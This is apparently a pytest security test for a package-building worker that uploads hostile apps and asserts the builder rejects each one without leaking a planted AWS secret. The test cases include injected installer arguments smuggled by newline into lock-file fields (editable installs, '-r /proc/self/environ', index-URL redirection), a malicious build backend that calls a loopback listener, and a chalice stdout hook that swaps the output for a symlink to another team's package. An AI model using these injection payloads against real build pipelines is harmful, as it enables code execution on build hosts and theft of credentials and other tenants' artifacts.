"""The builder trusts nothing from an upload, through a real worker, once as root and
once as an unprivileged worker (uid 65534).

The worker's package index is a local one on loopback (no registry needed). Hostile
uploads put installer commands in every lock format and field (an editable folder whose
build backend would write a mark on the host and call a loopback listener, ``-r`` of
the worker's ``/proc`` files, index redirection with ``${HOME}``, remote includes), and
a chalice app swaps its ``deployment.zip`` for a link to another team's package. Each
job fails with its stable code; no mark is written, the listener is never called, the
other team's package is never shipped, and the planted secret (in the worker's
environment and its credentials file) appears in no record and no log. Then an ordinary
app with a dependency from the index verifies on the same worker.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import socket
import tempfile
import threading
import uuid
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from orchestrator.steps.build.dependencies import find_uv
from tests.chaos.conftest import ChaosStack, make_zip
from tests.chaos.nobody import NOBODY
from tests.chaos.test_jail import _start, as_user, nobody_paths

__all__ = ["as_user", "nobody_paths"]
pytestmark = pytest.mark.slow
WHEEL = "tinydep-1.0-py3-none-any.whl"


def _wheel() -> bytes:
    buf = io.BytesIO()
    files = {"tinydep/__init__.py": "VALUE = 'from the index'\n",
             "tinydep-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: tinydep\n"
                                               "Version: 1.0\n",
             "tinydep-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: test\n"
                                            "Root-Is-Purelib: true\nTag: py3-none-any\n"}
    record = "".join(f"{n},sha256={_b64(d.encode())},{len(d)}\n" for n, d in files.items())
    files["tinydep-1.0.dist-info/RECORD"] = record + "tinydep-1.0.dist-info/RECORD,,\n"
    with zipfile.ZipFile(buf, "w") as zf:
        for name, text in files.items():
            zf.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), text)
    return buf.getvalue()


def _b64(data: bytes) -> str:
    import base64

    return base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


@dataclass
class Index:
    url: str
    wheel: bytes
    requests: list[str]


@pytest.fixture
def index() -> Iterator[Index]:
    """A PEP 503 index on loopback with one package, tinydep 1.0."""
    wheel = _wheel()
    sha = hashlib.sha256(wheel).hexdigest()
    seen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args: object) -> None:
            pass

        def do_HEAD(self) -> None:
            self.do_GET(head=True)

        def do_GET(self, head: bool = False) -> None:
            seen.append(self.path)
            if self.path.rstrip("/") == "/simple/tinydep":
                body = (f'<a href="/files/{WHEEL}#sha256={sha}">{WHEEL}</a>').encode()
                ctype = "text/html"
            elif self.path == f"/files/{WHEEL}":
                body, ctype = wheel, "application/octet-stream"
            else:
                self.send_error(404)
                return
            self.send_response(200)
            self.send_header("Content-Type", ctype)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            if not head:
                self.wfile.write(body)

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield Index(f"http://127.0.0.1:{server.server_address[1]}/simple", wheel, seen)
    finally:
        server.shutdown()
        server.server_close()


def _manifest(name: str) -> str:
    return f"[function]\nname = '{name}'\nruntime = 'python3.11'\ntimeout = 20\n"


def _app(name: str, files: dict[str, str | bytes]) -> bytes:
    return make_zip({"app.py": "def handler(event, context):\n    return 1\n",
                     "auto-lambda.toml": _manifest(name), **files})


def _evil_backend(mark: Path, port: int) -> dict[str, str | bytes]:
    """A folder whose PEP 517 backend writes ``mark`` and calls the listener: what an
    installer that builds ``-e ./evil`` would run on the worker."""
    hook = (f"import socket\nopen({str(mark)!r}, 'w').write('ran')\n"
            f"try:\n    socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
            "except OSError:\n    pass\n")
    return {"evil/pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = 'backend'\n"
                                   "backend-path = ['.']\n",
            "evil/backend.py": hook + "def build_editable(*a, **k):\n    raise SystemExit(1)\n"
                                      "build_wheel = build_editable\n"}


def _chalice_swap(name: str, target: Path) -> bytes:
    """chalice app.py that, once chalice has written deployment.zip, replaces it with a
    link to ``target`` (the flush the driver makes before it exits)."""
    app = f"""
import os, sys
from chalice import Chalice
app = Chalice(app_name={name!r})

@app.route('/')
def index():
    return {{}}

class _Swap:
    def __init__(self, inner):
        self.inner = inner
    def write(self, text):
        return self.inner.write(text)
    def flush(self):
        out = os.path.join(os.path.dirname(os.getcwd()), 'out', 'deployment.zip')
        if os.path.exists(out) and not os.path.islink(out):
            os.unlink(out)
            os.symlink({str(target)!r}, out)
        return self.inner.flush()
    def __getattr__(self, attr):
        return getattr(self.inner, attr)
sys.stdout = _Swap(sys.stdout)
"""
    return make_zip({"app.py": app, "auto-lambda.toml": _manifest(name),
                     ".chalice/config.json": json.dumps({"version": "2.0", "app_name": name,
                                                         "stages": {"dev": {}}})})


def _cases(mark: Path, port: int, other_team: Path) -> dict[str, tuple[str, bytes]]:
    evil = _evil_backend(mark, port)
    victim = f"http://127.0.0.1:{port}"
    sha = "ab" * 32
    uv_lock = ('version = 1\n[[package]]\nname = "app"\nversion = "0.1.0"\n'
               'source = { virtual = "." }\ndependencies = [{ name = "tinydep" }]\n\n'
               '[[package]]\nname = "tinydep"\nversion = %s\n'
               f'source = {{ registry = "{victim}/${{HOME}}/simple" }}\n')
    return {
        "b/uvlock-editable.zip": ("LockInvalid", _app("uvlock-editable", {
            "uv.lock": uv_lock % json.dumps("1.0\n-e ./evil"), **evil})),
        "b/pipfile-proc.zip": ("LockInvalid", _app("pipfile-proc", {"Pipfile.lock": json.dumps(
            {"default": {"tinydep": {"version": "==1.0\n-r /proc/self/environ"}}})})),
        "b/pylock-index.zip": ("LockInvalid", _app("pylock-index", {"pylock.toml": (
            'lock-version = "1.0"\n[[packages]]\n'
            f'name = {json.dumps("tinydep" + chr(10) + "--index-url " + victim + "/${HOME}/s")}\n'
            f'version = "1.0"\nwheels = [{{ url = "{victim}/t.whl", '
            f'hashes = {{ sha256 = "{sha}" }} }}]\n')})),
        "b/poetry-hash.zip": ("LockInvalid", _app("poetry-hash", {
            "pyproject.toml": "[tool.poetry]\nname='a'\n[tool.poetry.dependencies]\n"
                              "tinydep = '*'\n",
            "poetry.lock": ('[[package]]\nname = "tinydep"\nversion = "1.0"\nfiles = [{ file = '
                            f'"{WHEEL}", hash = "sha256:{sha}\\n-e ./evil" }}]\n'), **evil})),
        "b/req-remote.zip": ("RequirementsInvalid", _app("req-remote", {
            "requirements.txt": f"-r {victim}/r.txt\n"})),
        "b/req-editable.zip": ("RequirementsInvalid", _app("req-editable", {
            "requirements.txt": "tinydep==1.0\n-e ./evil\n", **evil})),
        "b/pep621-marker.zip": ("RequirementsInvalid", _app("pep621-marker", {
            "pyproject.toml": "[project]\nname='a'\ndependencies = "
                              "['tinydep; python_version > \"3\\n-e ./evil\"']\n", **evil})),
        "b/chalice-swap.zip": ("JailOutputInvalid", _chalice_swap("chalice-swap", other_team)),
    }


def test_hostile_build_inputs_run_nothing_on_the_worker(
        stack: ChaosStack, as_user: tuple[str, Path, Path], index: Index) -> None:
    base = Path(tempfile.mkdtemp(prefix="auto-lambda-builder-", dir="/var/tmp"))
    listener = socket.socket()
    try:
        listener.bind(("127.0.0.1", 0))
        listener.listen(8)
        listener.setblocking(False)
        _run(stack, as_user, index, base, listener)
    finally:
        listener.close()
        shutil.rmtree(base, ignore_errors=True)


def _run(stack: ChaosStack, user: tuple[str, Path, Path], index: Index, base: Path,
         listener: socket.socket) -> None:
    home, work, bin_dir = base / "home", base / "work", base / "bin"
    for folder in (home, work, bin_dir):
        folder.mkdir()
    secret = f"SECRET-{uuid.uuid4().hex}"
    creds = home / ".aws" / "credentials"
    creds.parent.mkdir()
    creds.write_text(f"[default]\naws_access_key_id = AKIA\naws_secret_access_key = {secret}\n")
    uv = find_uv()
    assert uv is not None
    shutil.copy2(uv, bin_dir / "uv")  # where any worker user can run it from
    other_team = base / "other-team" / "package.zip"
    other_team.parent.mkdir()
    other_team.write_bytes(make_zip({"app.py": f"STOLEN = {secret!r}\n"}))
    mark = base / "EVIL-ran-on-the-worker"
    if user[0] == "nobody":
        for path in (base, *base.rglob("*")):
            os.chown(path, NOBODY, NOBODY)
        other_team.chmod(0o600)
    cases = _cases(mark, listener.getsockname()[1], other_team)
    env = {"HOME": str(home), "AUTO_LAMBDA_WORK_DIR": str(work),
           "AUTO_LAMBDA_CACHE_DIR": str(work / "cache"), "AWS_SECRET_ACCESS_KEY": secret,
           "UV_DEFAULT_INDEX": index.url, "AUTO_LAMBDA_UV": str(bin_dir / "uv")}
    worker = _start(stack, user, env)
    for key, (_code, body) in cases.items():
        stack.upload(key, body)
    stack.wait_for("every hostile build to settle", lambda: stack.settled(len(cases)),
                   timeout=240)
    by_key = {j.key: j for j in stack.jobs()}
    for key, (code, _body) in cases.items():
        job = by_key[key]
        assert job.state == "failed", (key, job.state, job.error)
        assert job.error is not None and job.error["code"] == code, (key, job.error)
    assert not mark.exists()
    with pytest.raises(BlockingIOError):
        listener.accept()
    # An ordinary app with a dependency from the index, on the same worker.
    stack.upload("b/ordinary.zip", _app("ordinary", {
        "app.py": "import tinydep\n\ndef handler(event, context):\n    return tinydep.VALUE\n",
        "requirements.txt": "tinydep==1.0\n"}))
    stack.wait_for("the ordinary app", lambda: stack.settled(len(cases) + 1), timeout=120)
    ordinary = stack.job_for("b/ordinary.zip")
    assert ordinary.state == "verified", (ordinary.error, worker.tail())
    assert any(p.startswith("/files/") for p in index.requests)
    assert worker.alive(), worker.tail()
    # The planted secret is in no record, no history event, no build log and no log line.
    for table in (stack.settings.table_name, stack.settings.history_table_name):
        items = stack.aws.dynamodb.scan(TableName=table)["Items"]
        assert items and secret not in json.dumps(items)
    bucket = stack.settings.artifacts_bucket
    logs = stack.aws.s3.list_objects_v2(Bucket=bucket, Prefix="logs/").get("Contents", [])
    assert len(logs) == len(cases) + 1  # one build log per job
    for obj in logs:
        body = stack.aws.s3.get_object(Bucket=bucket, Key=obj["Key"])["Body"].read()
        assert secret.encode() not in body, obj["Key"]
    worker.stop()
    assert secret not in worker.log_path.read_text(errors="replace")
